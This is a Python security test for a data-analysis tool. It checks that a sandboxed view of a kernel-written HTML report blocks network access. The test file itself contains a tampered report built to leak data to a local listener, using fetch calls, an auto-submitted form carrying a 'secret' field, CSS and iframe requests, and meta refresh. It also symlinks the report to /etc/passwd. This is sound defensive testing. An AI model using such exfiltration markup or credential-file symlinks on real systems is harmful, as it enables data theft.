#!/usr/bin/python3
"""tests/trust/test_report_view.py — a kernel-written report opened with
`daa profile --open` cannot reach the network, through a real daemon and
headless Chromium with a local TCP listener:
- profile.run returns `view`, a page the daemon wrote in .daa/view/ (no
  kernel can write there); the untampered report renders in it (the
  screenshot is not blank);
- kernel code (`daa run`) rewrites outputs/reports/sales_profile.html with
  <img>, <script>fetch, <meta refresh>, <link rel=stylesheet>, CSS @import
  and url(), an auto-submitted <form>, <iframe>, <object>, fonts...: the
  same report opened raw makes requests to the listener (the check can
  fail), the daemon's view of it makes none;
- `daa profile --open` hands xdg-open (a stand-in that records its
  argument) the view's path inside .daa/view, never the report; a report
  that is a symlink (a kernel cannot make one; made by hand here) gets no
  view and nothing is opened."""
import http.server
import json
import os
import shutil
import socketserver
import subprocess
import sys
import threading

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "agent"))
from agentlib import DAA, SALES, check, run_test_in_dir, skip  # noqa: E402

CHROMIUM = "/usr/bin/chromium"


class Listener:
    """A local HTTP listener that records every request."""

    def __init__(self):
        hits = self.hits = []

        class H(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<p>leaked</p>")

            do_POST = do_GET

            def log_message(self, *a):
                pass

        self.srv = socketserver.ThreadingTCPServer(("127.0.0.1", 0), H)
        self.url = "http://127.0.0.1:%d" % self.srv.server_address[1]
        threading.Thread(target=self.srv.serve_forever, daemon=True).start()

    def close(self):
        self.srv.shutdown()
        self.srv.server_close()


def evil_report(u):
    return ("""<!DOCTYPE html><html><head>
<meta http-equiv="refresh" content="0;url=%(u)s/refresh">
<link rel="stylesheet" href="%(u)s/link.css"><link rel="prefetch" href="%(u)s/prefetch">
<link rel="icon" href="%(u)s/icon.png"><base href="%(u)s/base/">
<style>@import url("%(u)s/import.css"); body { background: url("%(u)s/bg.png"); }
@font-face { font-family: x; src: url("%(u)s/font.woff"); } p { font-family: x; }</style>
</head><body><h1>Tampered report</h1><p>dataset rows</p>
<img src="%(u)s/img.png"><img src="relative.png">
<script>fetch("%(u)s/fetch"); new Image().src = "%(u)s/jsimg";</script>
<script src="%(u)s/ext.js"></script>
<form id="f" action="%(u)s/form" method="post"><input name="data" value="secret"></form>
<script>document.getElementById("f").submit();</script>
<iframe src="%(u)s/iframe"></iframe><object data="%(u)s/object"></object>
<embed src="%(u)s/embed"><video src="%(u)s/video" autoplay></video>
<svg><image href="%(u)s/svgimage"/></svg><a href="%(u)s/a" ping="%(u)s/ping">link</a>
</body></html>""" % {"u": u})


LAST_STDERR = [""]   # Chromium's last words, shown when a view renders blank


def chromium(page, work, tag):
    """Load page (a file) in headless Chromium; the screenshot's path."""
    shot = os.path.join(work, tag + ".png")
    prof = os.path.join(work, "chromium-" + tag)
    # The view is one sandboxed srcdoc iframe, which Chromium renders in a
    # process of its own (IsolateSandboxedIframes): under load that process
    # was not ready when the screenshot was taken, and the shot came out
    # blank (sessions 20 and 23, three blank shots in a row) or half drawn
    # (2.2% ink instead of 3.8, often the first run of a batch).  Rendered
    # in the page's process, with every compositor stage run before a frame
    # is drawn, the shot waits for the frame.  The sandbox's and the CSP's
    # rules, what this test checks, are the same in either process model.
    p = subprocess.run([CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu",
                        "--disable-background-networking", "--no-first-run",
                        "--run-all-compositor-stages-before-draw",
                        "--disable-features=IsolateSandboxedIframes",
                        "--user-data-dir=" + prof, "--virtual-time-budget=10000",
                        "--window-size=900,700", "--screenshot=" + shot, "file://" + page],
                       stdin=subprocess.DEVNULL, capture_output=True, timeout=120)
    shutil.rmtree(prof, ignore_errors=True)
    LAST_STDERR[:] = [p.stderr.decode(errors="replace")[-1500:]]
    if os.environ.get("DAA_KEEP_SHOTS"):
        shutil.copy(shot, os.environ["DAA_KEEP_SHOTS"] + "/" + tag + ".png")
    check(os.path.isfile(shot), "chromium made no screenshot of %s" % page)
    return shot


def rendered_ink(page, work, tag, tries=3):
    """ink() of page's screenshot, the best of a few tries: headless Chromium
    sometimes shoots a srcdoc iframe before it is painted (seen ~1 run in 2
    with a 3 s virtual-time budget), which says nothing about the page."""
    best = 0.0
    for i in range(tries):
        best = max(best, ink(chromium(page, work, "%s%d" % (tag, i))))
        if best > 0.01:
            break
    return best


def ink(png):
    """Share of pixels that are not (nearly) white."""
    from PIL import Image
    img = Image.open(png).convert("L")
    px = list(img.getdata())
    return sum(1 for p in px if p < 200) / len(px)


def profile(d, *extra, env=None):
    p = subprocess.run([DAA, "--no-start", "--json", "-p", "p", "profile", "sales", *extra],
                       env=env or d.env, capture_output=True, text=True, timeout=300)
    return p, (json.loads(p.stdout) if p.stdout.strip().startswith("{") else None)


def body(d, work):
    if not os.access(CHROMIUM, os.X_OK):
        skip("no %s (apt-get install chromium)" % CHROMIUM)
    c = d.client(timeout=300)
    proj = os.path.realpath(c.call("project.create", name="p")["path"])
    c.call("data.add", project="p", path=SALES)
    p, r = profile(d)
    check(r and r.get("view"), "no view in %s %s" % (p.stdout[-500:], p.stderr))
    viewdir = os.path.join(proj, ".daa", "view")
    check(os.path.dirname(os.path.realpath(r["view"])) == viewdir, "view %r" % r["view"])
    share = rendered_ink(r["view"], work, "clean")
    check(share > 0.01, "the untampered report renders blank in the view (%.4f); Chromium's "
          "stderr:\n%s" % (share, LAST_STDERR[0]))
    print("ok - the view of the untampered report renders (%.1f%% ink)" % (share * 100))

    lis = Listener()
    try:
        code = "open(%r, 'w').write(%r)" % (r["report"], evil_report(lis.url))
        q = d.cli("-p", "p", "run", code)
        check(q.returncode == 0, "tamper step: %s %s" % (q.stdout, q.stderr))
        raw = os.path.join(proj, r["report"])
        chromium(raw, work, "raw")
        check(lis.hits, "the raw tampered report made no request: the check cannot fail")
        print("ok - the raw tampered report reaches the listener: %s" % ", ".join(sorted(lis.hits)))
        del lis.hits[:]
        p, r2 = profile(d)
        check(r2 and r2.get("view") == r["view"], "view after tampering %r" % (r2,))
        with open(r2["view"]) as f:
            check("Tampered report" in f.read(), "the view does not hold the tampered report")
        share = rendered_ink(r2["view"], work, "view")
        check(not lis.hits, "the view reached the network: %r" % lis.hits)
        check(share > 0.001, "the tampered report's view is blank")
        print("ok - its view made no request (img, script, refresh, css, form, iframe...)")
    finally:
        lis.close()

    q = d.cli("--json", "-p", "p", "run", "open('.daa/view/x.html', 'w').write('x')", "--scratch")
    err = (json.loads(q.stdout).get("error") or {}).get("type")
    # PermissionError from Landlock; FileNotFoundError when the mount
    # namespace hides .daa/ (only .daa/cache is mounted in), sandbox/README.md
    check(err in ("PermissionError", "FileNotFoundError") and
          not os.path.exists(os.path.join(viewdir, "x.html")), "kernel wrote .daa/view (%r)" % err)
    print("ok - a kernel cannot write .daa/view (%s)" % err)

    fake = os.path.join(work, "bin")
    os.makedirs(fake)
    log = os.path.join(work, "opened")
    with open(os.path.join(fake, "xdg-open"), "w") as f:
        f.write("#!/bin/sh\nprintf '%%s\\n' \"$1\" >> %s\n" % log)
    os.chmod(os.path.join(fake, "xdg-open"), 0o755)
    env = dict(d.env, PATH=fake + ":/usr/bin:/bin")
    p, r3 = profile(d, "--open", env=env)
    check(p.returncode == 0, "daa profile --open: %s" % p.stderr)
    for _ in range(100):                       # xdg-open is detached
        if os.path.exists(log):
            break
        __import__("time").sleep(0.05)
    opened = open(log).read().split()
    check(opened == [os.path.realpath(r3["view"])], "xdg-open got %r" % opened)
    print("ok - --open hands xdg-open the view in .daa/view: %s" % opened[0])

    # Landlock refuses a kernel's symlink; the report is made one by hand
    q = d.cli("-p", "p", "run", "import os; os.symlink('/etc/passwd', %r)" % (r["report"] + ".x"))
    check(q.returncode != 0 and "PermissionError" in q.stdout + q.stderr, "a kernel made a symlink")
    os.remove(os.path.join(proj, r["report"]))
    os.symlink("/etc/passwd", os.path.join(proj, r["report"]))
    os.remove(log)
    p, r4 = profile(d, "--open", env=env)
    check(p.returncode != 0 and "not opening" in p.stderr, "--open on a symlinked report: %d %s"
          % (p.returncode, p.stderr))
    check(r4 and not r4.get("view") and r4.get("view_error"), "view of a symlink %r" % r4)
    __import__("time").sleep(0.3)
    check(not os.path.exists(log), "xdg-open was run for a symlinked report")
    print("ok - a report replaced by a symlink gets no view and is not opened (%s)" % r4["view_error"])


def main():
    # a real report, charts included (the harness leaves them out by default)
    run_test_in_dir("daa-view.", body, config={"kernel": {"report_images": True}})


if __name__ == "__main__":
    main()
